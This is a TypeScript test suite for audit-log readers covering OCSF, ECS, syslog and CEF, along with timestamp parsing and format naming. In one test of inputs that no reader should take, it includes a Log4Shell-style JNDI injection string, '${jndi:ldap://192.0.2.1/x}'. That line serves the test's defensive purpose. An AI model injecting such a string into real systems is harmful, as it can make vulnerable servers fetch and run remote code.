import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { AuditLogSample } from '../../model/evidence/audit-log.ts';
import { rawText } from '../../model/text.ts';
import { headOf } from '../head.ts';
import { readers } from '../index.ts';
import type { Reading } from '../reader.ts';
import { sourceOf, type Source } from '../source.ts';
import { cef } from './cef/index.ts';
import { ecs } from './ecs/index.ts';
import { namedLogFormat } from './named-format.ts';
import { ocsf } from './ocsf/index.ts';
import { plainLog } from './plain-log/index.ts';
import { syslog } from './syslog/index.ts';

const encoder = new TextEncoder();
const sourceOfText = (text: string): Source => sourceOf('sample.log', encoder.encode(text));

/** The same bytes in pieces of a given length, each overwritten once the next is asked for. */
function inPieces(bytes: Uint8Array, length: number): Source {
  return {
    ...sourceOf('sample.log', bytes),
    *chunks() {
      const piece = new Uint8Array(length);
      for (let start = 0; start < bytes.length; start += length) {
        const part = bytes.subarray(start, start + length);
        piece.fill(0x5b);
        piece.set(part);
        yield piece.subarray(0, part.length);
      }
    },
  };
}

function factsOf(reading: Reading | Promise<Reading>): AuditLogSample {
  assert.ok(!(reading instanceof Promise) && reading.kind === 'audit-log');
  assert.ok(reading.facts !== undefined, reading.notes.map(({ message }) => rawText(message)).join(' '));
  return reading.facts as AuditLogSample;
}

const event = (more: string, time = 1_780_219_800_000): string => `{"class_uid":3002,"category_uid":3,"activity_id":1,"type_uid":300201,"severity_id":1,"metadata":{"version":"1.3.0"},"time":${time}${more}}`;

describe('an OCSF log', () => {
  it('is the same log whatever the size of the pieces it arrives in', () => {
    const rows = ['', event(''), event(',"actor":{"user":{"name":"a\\"}{b"}}'), '  ', 'broken', event(',"x":"' + 'é'.repeat(40) + '"'), event(',"time":1'), event(',"z":[[],{},"]"]')];
    for (const text of [rows.join('\n'), `\uFEFF${rows.join('\r\n')}\n`, `[${rows.filter((row) => row.startsWith('{')).join(' ,\n')}] \n`, rows.filter((row) => row.startsWith('{')).map((row) => row.replace('{', '{\n')).join('\n\n')]) {
      const bytes = encoder.encode(text);
      const whole = ocsf.read(sourceOf('sample.log', bytes));
      assert.equal(factsOf(whole).events, 4);
      for (const length of [1, 2, 3, 7, 9, 64, 100, 250, 4096]) assert.deepEqual(ocsf.read(inPieces(bytes, length)), whole, `pieces of ${length}`);
    }
  });

  it('names the rows that it could not read, with the reason', () => {
    const { unreadableRows, rows, events } = factsOf(ocsf.read(sourceOfText(`${event('')}\nnot json\n\n${event(',"time":2')}\n[1]\n{"a":1}\n{"class_uid":3002,"b":"${'x'.repeat(1_100_000)}"}\n`)));
    assert.deepEqual({ rows, events }, { rows: 6, events: 1 });
    assert.deepEqual(unreadableRows.reasons.map(({ reason, firstRows }) => [reason, firstRows]), [['not-json', [2]], ['duplicate-key', [4]], ['not-an-object', [5]], ['not-this-format', [6]], ['too-long', [7]]]);
  });

  it('gives nothing when a JSON array is cut off, as no part of it is JSON', () => {
    const reading = ocsf.read(sourceOfText(`[${event('')},${event('')}`));
    assert.ok(!(reading instanceof Promise));
    assert.equal(reading.facts, undefined);
    assert.equal(reading.notes[0]?.place.row, 1);
  });

  it('counts what a responder needs, and only what is really given', () => {
    const full = ',"user":{"name":"n"},"src_endpoint":{"ip":"203.0.113.1"},"service":{"name":"s"},"status_id":1';
    const empty = ',"user":{"name":""},"src_endpoint":{"ip":null},"service":{},"status_id":0';
    const facts = factsOf(ocsf.read(sourceOfText(`${event(full)}\n${event(empty)}\n${event(full, 1_780_219_800)}\n`)));
    assert.deepEqual(facts.fields, { actor: 2, action: 3, target: 2, outcome: 2, source: 2, 'utc-time': 3, correlation: 0 });
    assert.deepEqual([facts.completeEvents, facts.incompleteEvents], [{ events: 2, firstRow: 1 }, { events: 1, firstRow: 2 }]);
    assert.deepEqual([facts.timeForms.milliseconds.events, facts.timeForms.seconds], [2, { events: 1, firstRow: 3 }]);
  });

  it('does not take an API call for an area that its class does not tell', () => {
    const { areas } = factsOf(ocsf.read(sourceOfText('{"class_uid":6003,"category_uid":6,"activity_id":2,"type_uid":600302,"time":1780219800000}\n')));
    assert.deepEqual([areas.data, areas.configuration.possible, areas.identity.possible], [{ events: 0, possible: { events: 1, firstRow: 1 } }, { events: 1, firstRow: 1 }, { events: 0 }]);
  });

  it('says how its times run', () => {
    const at = (hour: number): string => event('', 1_780_219_800_000 + hour * 3_600_000);
    assert.deepEqual(factsOf(ocsf.read(sourceOfText([at(0), at(1), at(30), at(30)].join('\n')))).time, { earliest: '2026-05-31T09:30:00.000Z', latest: '2026-06-01T15:30:00.000Z', daysWithEvents: 2, order: 'ascending', rowsBack: 0, largestGapSeconds: 29 * 3600 });
    assert.equal(factsOf(ocsf.read(sourceOfText([at(9), at(3), at(1)].join('\n')))).time?.order, 'descending');
    const mixed = factsOf(ocsf.read(sourceOfText([at(9), at(3), at(10)].join('\n')))).time;
    assert.deepEqual([mixed?.order, mixed?.rowsBack, mixed?.largestGapSeconds], ['mixed', 1, undefined]);
  });

  it('keeps a bounded number of notes and types, whatever the number of rows', () => {
    const rows = Array.from({ length: 5000 }, (_, index) => `{"class_uid":${index},"category_uid":9,"activity_id":5,"type_uid":1,"time":"x"}`);
    const reading = ocsf.read(sourceOfText(rows.join('\n')));
    assert.ok(!(reading instanceof Promise));
    assert.ok(reading.notes.length <= 100 && reading.notesOmitted > 10_000);
    assert.ok(factsOf(reading).types.length <= 200);
  });
});

describe('times of events', () => {
  it('are told apart by how they are written', () => {
    const forms: readonly (readonly [string, string, string | undefined])[] = [
      ['"2026-05-31T09:30:00Z"', 'utc', '2026-05-31T09:30:00.000Z'],
      ['"2026-05-31t09:30:00.123456789z"', 'utc', '2026-05-31T09:30:00.123Z'],
      ['"2026-05-31T09:30:00+00:00"', 'utc', '2026-05-31T09:30:00.000Z'],
      ['"2024-02-29T00:30:00-23:59"', 'offset', '2024-03-01T00:29:00.000Z'],
      ['"0001-01-01T00:00:00Z"', 'utc', '0001-01-01T00:00:00.000Z'],
      ['"2026-12-31T23:59:60Z"', 'utc', '2027-01-01T00:00:00.000Z'],
      ['"2026-05-31 09:30:00.5"', 'no-zone', '2026-05-31T09:30:00.500Z'],
      ['"2026-05-31T09:30:00 +0000"', 'other', undefined],
      ['"2026-02-29T09:30:00Z"', 'other', undefined],
      ['"2026-05-31T24:30:00Z"', 'other', undefined],
      ['"2026-05-31T09:30:00.Z"', 'other', undefined],
      ['"May 31, 2026"', 'other', undefined],
      ['1780219800000', 'milliseconds', '2026-05-31T09:30:00.000Z'],
      ['1780219800', 'seconds', '2026-05-31T09:30:00.000Z'],
      ['1780219800.5', 'other', undefined],
      ['-5', 'other', undefined],
      ['true', 'other', undefined],
      ['null', 'absent', undefined],
    ];
    for (const [written, form, earliest] of forms) {
      const facts = factsOf(plainLog.read(sourceOfText(`{"time":${written},"area":"data","action":"x"}`)));
      assert.equal(Object.entries(facts.timeForms).find(([, { events }]) => events === 1)?.[0], form, written);
      assert.equal(facts.time?.earliest, earliest, written);
    }
  });
});

describe('an ECS log', () => {
  it('is read whether its fields are nested, dotted or both', () => {
    const { fields, areas, types } = factsOf(ecs.read(sourceOfText(`${[
      '{"@timestamp":"2026-05-31T09:30:00Z","event":{"action":"a","category":["iam"],"outcome":"success"},"user":{"target":{"name":"t"},"name":"n"},"source":{"ip":"i"}}',
      '{"@timestamp":"2026-05-31T09:30:00Z","event.action":"a","event.category":"iam","event.outcome":"unknown","user.target.name":"t","user.name":"n","source":{"ip":"i"}}',
      '{"@timestamp":"2026-05-31T09:30:00Z","event.action":"a","event.category":["iam","person@example.org"],"event.outcome":"success","user.target":{"name":"t"},"user":{"name":"n"},"source.ip":"i"}',
    ].join('\n')}\n`)));
    assert.deepEqual(fields, { actor: 3, action: 3, target: 3, outcome: 2, source: 3, 'utc-time': 3, correlation: 0 });
    assert.deepEqual(areas.identity, { events: 3, firstRow: 1, possible: { events: 0 } });
    assert.deepEqual(new Set(types.map(({ name }) => name)), new Set(['iam']));
  });
});

describe('a syslog', () => {
  it('takes fields from structured data and the area where it is named', () => {
    const facts = factsOf(syslog.read(sourceOfText('<134>1 2026-05-31T09:30:00Z h app 1 CHANGE [a@1 Area="configuration" USER="u" target="t\\]"][b@1 result="ok" src="i"] text\n')));
    assert.deepEqual(facts.types.map(({ name }) => name), ['structured data: configuration']);
    assert.deepEqual(facts.completeEvents, { events: 1, firstRow: 1 });
  });

  it('refuses a row whose header, length or structured data is out of form', () => {
    for (const row of ['<192>1 2026-05-31T09:30:00Z h a p m -', '<034>1 2026-05-31T09:30:00Z h a p m -', '<34>1 2026-05-31T09:30:00Z h a p', '<34>1 2026-05-31T09:30:00Z h a p m [x', '<34>1 2026-05-31T09:30:00Z h a p m [x a="]"]', '<34>1 2026-05-31T09:30:00Z h a p m [x a="b]', '9 <34>1 2026-05-31T09:30:00Z h a p m -', `<34>1 2026-05-31T09:30:00Z ${'h'.repeat(256)} a p m -`, '<34>1 2026-05-31T09:30:00Z h a p m - \0']) {
      const reading = syslog.read(sourceOfText(row));
      assert.ok(!(reading instanceof Promise) && reading.facts === undefined, row);
    }
  });
});

describe('a CEF log', () => {
  it('reads escapes, spaces in values and its several forms of time', () => {
    const facts = factsOf(cef.read(sourceOfText(`${[
      'CEF:0|V\\|x|P|1|100|name|5|src=192.0.2.1 msg=a\\=b c outcome=failure suser=a b',
      '<134>May 31 09:30:00 host CEF:1|V|P|1|100|name|High|start=May 31 2026 09:30:00.123 UTC duser=x',
      'CEF:0|V|P|1|100|name|5|rt=May 31 2026 09:30:00 Europe/Berlin',
      'CEF:0|V|P|1|100|name|5|rt=May 31 09:30:00',
      'CEF:0|V|P|1|100|name|5|rt=1780219800000 suser=',
      'CEF:0|V|P|1|100|name|5',
    ].join('\n')}\n`)));
    assert.deepEqual([facts.events, facts.fields.actor, facts.fields.source, facts.fields.outcome, facts.fields.target], [6, 1, 1, 1, 1]);
    assert.deepEqual([facts.timeForms.utc.events, facts.timeForms.milliseconds.events, facts.timeForms['no-zone'].events, facts.timeForms.other.events, facts.timeForms.absent.events], [1, 1, 1, 1, 2]);
  });
});

describe('logs that are not read yet', () => {
  const named = (text: string): string | undefined => namedLogFormat(headOf(sourceOfText(text)));

  it('are named by what is in them', () => {
    assert.equal(named('{"Records":[{"eventVersion":"1.08","userIdentity":{"type":"Root"},"eventName":"ConsoleLogin","aw'), 'AWS CloudTrail');
    assert.equal(named('[{"published":"2026-05-31T09:30:00Z","eventType":"user.session.start"}]'), 'Okta system log');
    assert.equal(named('LEEF:2.0|V|P|1|1|^|src=1^dst=2'), 'Log Event Extended Format (LEEF)');
    assert.equal(named('{"name":"left-pad","version":"1.0.0"}'), undefined);
    assert.equal(named('# A heading\n\nSome text.'), undefined);
  });

  it('are taken by no reader of logs', () => {
    for (const text of ['{"eventVersion":"1.08","eventName":"x"}\n{"eventVersion":"1.08"}', 'LEEF:2.0|V|P|1|1|^|src=1', '${jndi:ldap://192.0.2.1/x}', '{"a":1}\nnot json\n']) {
      const head = headOf(sourceOfText(text));
      assert.deepEqual(readers.filter((reader) => reader.produces === 'audit-log' && reader.accepts(head)).map(({ id }) => id), []);
    }
  });
});
